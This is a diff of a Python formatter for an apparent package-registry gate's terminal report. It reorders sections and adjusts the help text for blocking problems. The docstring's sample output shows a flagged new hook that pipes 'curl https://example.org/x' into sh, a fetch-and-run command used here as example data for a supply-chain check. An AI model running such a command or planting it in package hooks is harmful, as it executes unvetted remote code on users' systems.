@@ -1,4 +1,9 @@
-"""A verdict for a terminal: what was found, what the change set does, and the verdict as the last line.
+"""A verdict for a terminal: what the versions can do, what was found, what the change set does, and the verdict.
+
+    hello 1.1.0 can do what 1.0.0 could not
+      + hook  curl https://example.org/x | sh  (hooks/hooks.json)
+      - host  old.example.org  (mcp.json)
+      tokens always 120 → 150 (+30), when all is invoked 900 → 900
 
     error[sums-mismatch]: the file is not what was signed
       --> registry-src/packs/he/hello/1.1.0/README.md
@@ -7,11 +12,6 @@
        = help: sign the folder again with `packyard sign`, before it is published
     note[target-unknown]: the target is not a known one
       --> registry-src/packs/he/hello/1.1.0/pack.json:9
-
-    hello 1.1.0 can do what 1.0.0 could not
-      + hook  curl https://example.org/x | sh  (hooks/hooks.json)
-      - host  old.example.org  (mcp.json)
-      tokens always 120 → 150 (+30), when all is invoked 900 → 900
 
     this change set
       * publishes hello 1.1.0, signed by alice
@@ -35,6 +35,7 @@ from packyard.gate.report.shown import (
     claim,
     count,
     headline,
+    help_of,
     place,
     printable,
     problems,
@@ -61,19 +62,20 @@ def format_text(verdict: Verdict, deltas: Deltas, paint: Paint = plain) -> str:
 
 
 def _lines(verdict: Verdict, deltas: Deltas, paint: Paint) -> Iterator[str]:
+    for release in verdict.releases:
+        yield from _release(release, deltas.get((release.name, release.version)), paint)
+        yield ""
     for outcome, word in WORDS.items():
         for problem in problems(verdict, outcome):
             yield from _problem(problem, word, paint)
-    for release in verdict.releases:
-        yield ""
-        yield from _release(release, deltas.get((release.name, release.version)), paint)
     if verdict.changes:
-        yield from ("", paint("this change set", "bold"))
+        yield from ([""] if verdict.findings else [])
+        yield paint("this change set", "bold")
         yield from (f"  * {printable(change, TEXT_LENGTH)}" for change in verdict.changes)
     if missing := unfinished(verdict):
         yield ""
         yield f"{count(len(missing), 'check')} did not run to the end: {printable(', '.join(missing), TEXT_LENGTH)}"
-    if verdict.findings or verdict.releases or verdict.changes or missing:
+    if verdict.findings or verdict.changes or missing:
         yield ""
     yield paint(headline(verdict), _ENDS.get(verdict.outcome, "bold"))
 
@@ -86,7 +88,7 @@ def _problem(problem: Problem, word: str, paint: Paint) -> Iterator[str]:
     for name, value, limit in (
         ("expected: ", problem.expected, VALUE_LENGTH),
         ("found:    ", problem.found, VALUE_LENGTH),
-        ("help: ", problem.help, TEXT_LENGTH),
+        ("help: ", help_of(problem) if word == WORDS["block"] else problem.help, TEXT_LENGTH),
     ):
         if value:
             yield f"   {paint('=', 'blue')} {name}{printable(value, limit)}"
